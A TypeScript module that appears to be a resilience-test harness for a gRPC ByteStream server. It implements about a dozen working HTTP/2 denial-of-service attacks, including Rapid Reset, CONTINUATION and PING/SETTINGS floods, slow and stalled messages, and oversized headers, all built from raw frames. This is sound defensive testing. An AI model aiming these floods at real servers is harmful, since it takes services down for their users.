import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** What goes over one connection of somebody who means harm. Resolves when it has nothing more to send. */
type Attack = (socket: Socket, isGoing: () => boolean) => Promise<void> | void;

/** Not where the healthy come from: what one address may have at once is bounded, and theirs is not to be used up. */
const attackersAddress = '127.0.0.2';

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const [dataType, headersType, resetType, settingsType, pingType, continuationType] = [0, 1, 3, 4, 6, 9];
const [endHeaders, none] = [4, 0];
const greeting = Buffer.concat([Buffer.from(preface), frame(settingsType, none, 0, Buffer.alloc(0))]);
const read = '/google.bytestream.ByteStream/Read';
const write = '/google.bytestream.ByteStream/Write';

/** By name, so that a process can be told which. */
export const attacks = {
  silent: () => {},
  halfPreface: (socket) => void socket.write(preface.slice(0, 9)),
  noSettings: (socket) => void socket.write(preface),
  halfHeaders: (socket) => void socket.write(Buffer.concat([greeting, headers(1, write, none)])),
  idle: (socket) => void socket.write(greeting),
  /** A call that announces the longest message that is taken, and sends a little of it. */
  slowMessage: async (socket, isGoing) => {
    socket.write(
      Buffer.concat([greeting, headers(1, write), data(1, Buffer.from([0, 0, 0x7f, 0xff, 0xff]))]),
    );
    while (!socket.destroyed && isGoing()) {
      socket.write(data(1, Buffer.alloc(1)));
      await pause(500);
    }
  },
  stalledMessage: (socket) =>
    void socket.write(
      Buffer.concat([
        greeting,
        headers(1, write),
        data(1, Buffer.from([0, 0, 0x7f, 0xff, 0xff])),
        data(1, Buffer.alloc(16_000)),
      ]),
    ),
  manyStalledCalls: (socket) => {
    socket.write(greeting);
    for (let id = 1; id < 200; id += 2)
      socket.write(Buffer.concat([headers(id, write), data(id, Buffer.alloc(3))]));
  },
  rapidReset: (socket) =>
    flood(socket, (id) =>
      Buffer.concat([headers(id, read), frame(resetType, none, id, Buffer.from([0, 0, 0, 8]))]),
    ),
  longHeaders: (socket) => flood(socket, (id) => headers(id, read, endHeaders, pairs(60, 'x'.repeat(200)))),
  manyHeaders: (socket) => flood(socket, (id) => headers(id, read, endHeaders, pairs(2000, ''))),
  continuations: (socket) => {
    socket.write(Buffer.concat([greeting, headers(1, read, none)]));
    return flood(socket, () => frame(continuationType, none, 1, pairs(300, 'y'.repeat(40))), false);
  },
  emptyContinuations: (socket) => {
    socket.write(Buffer.concat([greeting, headers(1, read, none)]));
    return flood(socket, () => frame(continuationType, none, 1, Buffer.alloc(0)), false);
  },
  pings: (socket) => flood(socket, () => frame(pingType, none, 0, Buffer.alloc(8))),
  settings: (socket) => flood(socket, () => frame(settingsType, none, 0, Buffer.alloc(0))),
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;

/** A connection under attack, which is kept open as long as the server lets it. */
export async function attack(
  name: AttackName,
  host: string,
  port: number,
  isGoing: () => boolean,
): Promise<Socket> {
  // Whoever means harm does not close what the server has closed on its side.
  const socket = connect({ host, port, localAddress: attackersAddress, allowHalfOpen: true });
  socket.on('error', () => {});
  socket.resume();
  await Promise.race([once(socket, 'connect'), once(socket, 'close')]);
  const run: Attack = attacks[name];
  void Promise.resolve(run(socket, isGoing)).catch(() => {});
  return socket;
}

const framesOfFlood = 20_000;
const framesAtOnce = 50;

/** As many frames as the server takes, up to a number; each with the next stream's id. */
async function flood(socket: Socket, next: (id: number) => Buffer, greets = true): Promise<void> {
  if (greets) socket.write(greeting);
  for (let count = 0; count < framesOfFlood && !socket.destroyed; count += framesAtOnce) {
    const frames = Array.from({ length: framesAtOnce }, (_, index) => next(2 * (count + index) + 1));
    // A server that reads no more is not to fill our memory.
    if (!socket.write(Buffer.concat(frames)))
      await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
    await pause(1);
  }
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

function data(stream: number, payload: Buffer): Buffer {
  return frame(dataType, none, stream, payload);
}

function headers(stream: number, path: string, flags = endHeaders, more: Buffer = Buffer.alloc(0)): Buffer {
  const usual = [
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', path],
    [':authority', 'weir.test'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
  ] as const;
  const block = Buffer.concat(usual.map(([name, value]) => literal(name, value)));
  return frame(headersType, flags, stream, Buffer.concat([block, more]));
}

function pairs(count: number, value: string): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => literal(`x-${index}`, value)));
}

/** A header field that is not indexed, in plain text (RFC 7541, 6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([Buffer.from([0]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const most = 127;
  const { length } = value;
  const size = length < most ? [length] : [most, ...varint(length - most)];
  return Buffer.concat([Buffer.from(size), Buffer.from(value)]);
}

function varint(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...varint(value >>> 7)];
}
